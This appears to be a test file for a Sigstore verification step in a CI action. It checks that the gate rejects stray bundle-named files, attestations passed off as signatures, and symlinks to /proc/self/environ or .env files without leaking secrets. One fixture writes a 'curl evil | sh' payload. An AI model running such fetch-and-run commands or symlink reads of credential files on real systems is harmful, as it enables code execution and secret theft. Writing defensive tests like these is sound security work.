/**
 * Attacks on the verify gate through what it is given, against the built action and the local
 * stack (issue 13, section 3): a file named like a bundle that nothing checks, an attestation
 * passed off as the file's signature, and a bundle that is a symbolic link to the runner's own
 * files. Each must fail the step, say why, and print nothing of what it should not read.
 */
import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { runAction, type ActionRun } from '../../helpers/action.js';
import { createRelease, listAssets, updateRelease, uploadAsset } from '../../helpers/github.js';
import { spawnStack, type StackProcess } from '../../helpers/stack.js';
import { workspace } from '../../helpers/workspace.js';

const VERDICT = 'https://example.com/verdict/v1';
let stack: StackProcess;

beforeAll(async () => {
  stack = await spawnStack();
});

afterAll(async () => {
  await stack?.stop();
});

function trust(): Record<string, string> {
  return {
    'signing-config': stack.env.STACK_SIGNING_CONFIG,
    'trusted-root': stack.env.STACK_TRUSTED_ROOT,
  };
}

async function sign(ws: string, inputs: Record<string, string>): Promise<void> {
  const run = await runAction({ workspace: ws, env: stack.env, inputs: { ...trust(), ...inputs } });
  expect(run.code === 0 ? 'signed' : run.stdout).toBe('signed');
}

function verify(
  ws: string,
  inputs: Record<string, string>,
  env: Record<string, string> = {},
): Promise<ActionRun> {
  return runAction({
    workspace: ws,
    env: { ...stack.env, ...env },
    inputs: {
      mode: 'verify',
      'trusted-root': stack.env.STACK_TRUSTED_ROOT,
      'cert-identity': stack.env.STACK_IDENTITY,
      ...inputs,
    },
  });
}

function failures(run: ActionRun): string[] {
  return [...run.stdout.matchAll(/^FAILED {2}(.*)$/gm)].map((m) => m[1]);
}

describe('a file matched by inputs and named like a bundle is never skipped', () => {
  let ws: string;

  beforeAll(async () => {
    ws = workspace({ 'dist/app.tar.gz': 'app\n', 'dist/lib.whl': 'lib\n' });
    await sign(ws, { inputs: 'dist/*' });
    await sign(ws, { inputs: 'dist/*', 'predicate-type': VERDICT, predicate: '{"verdict":"ok"}' });
  });

  it('control: files, their signatures and their attestations all verify, every bundle checked', async () => {
    const run = await verify(ws, { inputs: 'dist/*' });
    expect(run.code === 0 ? 'passed' : run.stdout).toBe('passed');
    expect(JSON.parse(run.outputs.verified)).toEqual(['dist/app.tar.gz', 'dist/lib.whl']);
    // The attestations beside the signatures were checked against their files too.
    expect(run.stdout).toMatch(
      /^OK {6}dist\/app\.tar\.gz\.intoto\.sigstore\.json \(a bundle of dist\/app\.tar\.gz\): attestation \(https:\/\/example\.com\/verdict\/v1\) signed by /m,
    );
    expect(run.summary).toContain('**All 4 files verified**');
  });

  it('a payload named payload.sigstore (no file of its own) fails the step: not covered', async () => {
    const attacked = workspace({});
    mkdirSync(path.join(attacked, 'dist'));
    for (const f of [
      'dist/app.tar.gz',
      'dist/app.tar.gz.sigstore.json',
      'dist/lib.whl',
      'dist/lib.whl.sigstore.json',
    ])
      copyFileSync(path.join(ws, f), path.join(attacked, f));
    writeFileSync(path.join(attacked, 'dist/payload.sigstore'), '#!/bin/sh\ncurl evil | sh\n');
    writeFileSync(path.join(attacked, 'dist/install.sigstore.json'), '{"not":"checked"}');
    const run = await verify(attacked, { inputs: 'dist/*' });
    expect(run.code).toBe(1);
    expect(failures(run)).toEqual([
      'dist/install.sigstore.json: matched by inputs and named like a bundle, but it is not the bundle of any file verified here, so nothing about it was checked: the file it is named for, dist/install, is not there; or leave it out of inputs ("!dist/install.sigstore.json")',
      'dist/payload.sigstore: matched by inputs and named like a bundle, but it is not the bundle of any file verified here, so nothing about it was checked: the file it is named for, dist/payload, is not there; or leave it out of inputs ("!dist/payload.sigstore")',
    ]);
    expect(run.stdout).toContain('[INPUT_NOT_COVERED]');
    expect(run.summary).not.toContain('All ');
    expect(run.summary).toContain('**2 of 4 files did not verify**');
    // The real files still verified, and only they are listed.
    expect(JSON.parse(run.outputs.verified)).toEqual(['dist/app.tar.gz', 'dist/lib.whl']);
  });

  it('a bundle named alone, without its file, is not covered either, and says how to fix it', async () => {
    const run = await verify(ws, { inputs: 'dist/app.tar.gz.sigstore.json' });
    expect(run.code).toBe(1);
    expect(failures(run)).toEqual([
      'dist/app.tar.gz.sigstore.json: matched by inputs and named like a bundle, but it is not the bundle of any file verified here, so nothing about it was checked: the file it is named for, dist/app.tar.gz, is not among the inputs: add it to inputs to verify it with this bundle; or leave it out of inputs ("!dist/app.tar.gz.sigstore.json")',
    ]);
    expect(JSON.parse(run.outputs.verified)).toEqual([]);
  });

  it('excluding the payload with "!" is the explicit way out', async () => {
    const attacked = workspace({});
    mkdirSync(path.join(attacked, 'dist'));
    for (const f of ['dist/app.tar.gz', 'dist/app.tar.gz.sigstore.json'])
      copyFileSync(path.join(ws, f), path.join(attacked, f));
    writeFileSync(path.join(attacked, 'dist/payload.sigstore'), 'payload');
    const run = await verify(attacked, { inputs: 'dist/* !dist/payload.sigstore' });
    expect(run.code === 0 ? 'passed' : run.stdout).toBe('passed');
    expect(run.summary).toContain('**1 file verified**');
  });

  it('in a release: an asset named like a bundle of no asset fails the gate', async () => {
    const tag = 'v13.3.0';
    const release = await createRelease(stack, { tag, draft: true });
    for (const f of ['app.tar.gz', 'app.tar.gz.sigstore.json', 'app.tar.gz.intoto.sigstore.json'])
      await uploadAsset(stack, release, f, readFileSync(path.join(ws, 'dist', f)));
    await uploadAsset(stack, release, 'payload.sigstore', Buffer.from('#!/bin/sh\n'));
    await updateRelease(stack, release.id, { draft: false });
    const run = await runAction({
      workspace: mkdtempSync(path.join(tmpdir(), 'consumer-')),
      env: stack.env,
      inputs: {
        mode: 'verify',
        'release-tag': tag,
        'trusted-root': stack.env.STACK_TRUSTED_ROOT,
        'cert-identity': stack.env.STACK_IDENTITY,
        'github-token': stack.env.STACK_GITHUB_TOKEN_READONLY,
      },
    });
    expect(run.code).toBe(1);
    expect(failures(run)).toEqual([
      'payload.sigstore: named like a bundle, but it is the bundle of no asset of the release (there is no payload), so nothing about it was checked; attach the file it is for, or delete it from the release',
    ]);
    // The asset's attestation was checked against it too, as what its name says.
    expect(run.stdout).toMatch(
      /^OK {6}app\.tar\.gz\.intoto\.sigstore\.json \(a bundle of app\.tar\.gz\): attestation/m,
    );
    expect(JSON.parse(run.outputs.verified)).toEqual(['app.tar.gz']);
    const payload = (await listAssets(stack, release.id)).find(
      (a) => a.name === 'payload.sigstore',
    );
    expect(payload?.download_count).toBe(0);
  });
});

describe('an attestation is not the signature of a file', () => {
  it('a signed "DO NOT SHIP" attestation put where the signature goes fails, naming its type', async () => {
    const ws = workspace({ 'dist/app.tar.gz': 'app\n' });
    await sign(ws, {
      inputs: 'dist/app.tar.gz',
      'predicate-type': VERDICT,
      predicate: '{"verdict":"DO NOT SHIP"}',
    });
    copyFileSync(
      path.join(ws, 'dist/app.tar.gz.intoto.sigstore.json'),
      path.join(ws, 'dist/app.tar.gz.sigstore.json'),
    );
    const run = await verify(ws, { inputs: 'dist/app.tar.gz' });
    expect(run.code).toBe(1);
    expect(failures(run)).toEqual([
      `dist/app.tar.gz: the bundle is an in-toto attestation (predicate type "${VERDICT}"), not a plain signature of the file: an attestation is a statement about the file, whatever it says, and does not pass as its signature. To verify this attestation, set predicate-type: ${VERDICT}; to verify a signature, sign the file (sign mode without predicate-type).`,
    ]);
    expect(run.stdout).toContain('[PREDICATE_MISMATCH]');
    expect(JSON.parse(run.outputs.verified)).toEqual([]);

    // Asked for by its type, the same attestation verifies (as what it is).
    const asked = await verify(ws, {
      inputs: 'dist/app.tar.gz',
      bundle: 'dist/app.tar.gz.sigstore.json',
      'predicate-type': VERDICT,
    });
    expect(asked.code === 0 ? 'passed' : asked.stdout).toBe('passed');
  });

  it('an attestation by someone else is refused for who signed it, before its type is read', async () => {
    const ws = workspace({ 'dist/app.tar.gz': 'app\n' });
    await sign(ws, {
      inputs: 'dist/app.tar.gz',
      'predicate-type': VERDICT,
      predicate: '{"verdict":"DO NOT SHIP"}',
    });
    copyFileSync(
      path.join(ws, 'dist/app.tar.gz.intoto.sigstore.json'),
      path.join(ws, 'dist/app.tar.gz.sigstore.json'),
    );
    const run = await verify(ws, {
      inputs: 'dist/app.tar.gz',
      'cert-identity': 'https://github.com/other/repo/.github/workflows/x.yml@refs/heads/main',
    });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('[POLICY_MISMATCH]');
    expect(run.stdout).not.toContain(VERDICT);
  });
});

describe('a bundle that leads out of the workspace is not read', () => {
  const SECRET = 'gate-secret-4f1c0a9e7d2b';

  it('x.sigstore.json -> /proc/self/environ: refused, and not a byte of the environment is shown', async () => {
    const ws = workspace({ 'dist/app.tar.gz': 'app\n' });
    symlinkSync('/proc/self/environ', path.join(ws, 'dist/app.tar.gz.sigstore.json'));
    // Found as the file's bundle (the file named alone).
    const run = await verify(ws, { inputs: 'dist/app.tar.gz' }, { GATE_SECRET: SECRET });
    expect(run.code === 1 ? 'failed' : run.stdout).toBe('failed');
    expect(failures(run)).toEqual([
      expect.stringMatching(
        /^dist\/app\.tar\.gz: the bundle dist\/app\.tar\.gz\.sigstore\.json leads through a symbolic link to \/proc\/\d+\/environ, outside the workspace \(.*\); bundles are read from the workspace only: put the bundle itself there, or name its real path in bundle if you mean it$/,
      ),
    ]);
    expect(run.stdout).toContain('[PATH_OUTSIDE_WORKSPACE]');
    // Matched by a glob: refused with the inputs, before anything is read.
    const globbed = await verify(ws, { inputs: 'dist/*' }, { GATE_SECRET: SECRET });
    expect(globbed.code).toBe(1);
    expect(globbed.stdout).toMatch(
      /^::error::inputs: dist\/app\.tar\.gz\.sigstore\.json \(matched by "dist\/\*"\) leads through a symbolic link to \/proc\/\d+\/environ, outside the workspace/m,
    );
    for (const r of [run, globbed]) {
      expect(r.everything).not.toContain(SECRET);
      expect(r.everything).not.toContain('GATE_SECRET');
      expect(r.everything).not.toContain('PATH=');
    }
  });

  it('the same through a linked bundle-directory', async () => {
    const outside = workspace({ 'app.tar.gz.sigstore.json': `{"token":"${SECRET}"}` });
    const ws = workspace({ 'dist/app.tar.gz': 'app\n' });
    symlinkSync(outside, path.join(ws, 'bundles'));
    const run = await verify(ws, { inputs: 'dist/*', 'bundle-directory': 'bundles' });
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('[PATH_OUTSIDE_WORKSPACE]');
    expect(run.everything).not.toContain(SECRET);
  });

  it('a bundle linked to a non-bundle file inside the workspace is refused without quoting it', async () => {
    const ws = workspace({
      'dist/app.tar.gz': 'app\n',
      '.env': `DEPLOY_TOKEN=${SECRET}\n`,
      'config.json': `{"mediaType":"${SECRET}","token":"${SECRET}"}`,
    });
    symlinkSync('../.env', path.join(ws, 'dist/app.tar.gz.sigstore.json'));
    const run = await verify(ws, { inputs: 'dist/app.tar.gz' });
    expect(run.code).toBe(1);
    expect(failures(run)).toEqual([
      'dist/app.tar.gz: dist/app.tar.gz.sigstore.json is not a Sigstore bundle: it is not a JSON object; check that it is the bundle of the file, not another file',
    ]);
    expect(run.everything).not.toContain(SECRET);

    const json = await verify(ws, { inputs: 'dist/app.tar.gz', bundle: 'config.json' });
    expect(json.code).toBe(1);
    expect(json.stdout).toContain('[BUNDLE_MALFORMED]');
    expect(json.everything).not.toContain(SECRET);
  });
});
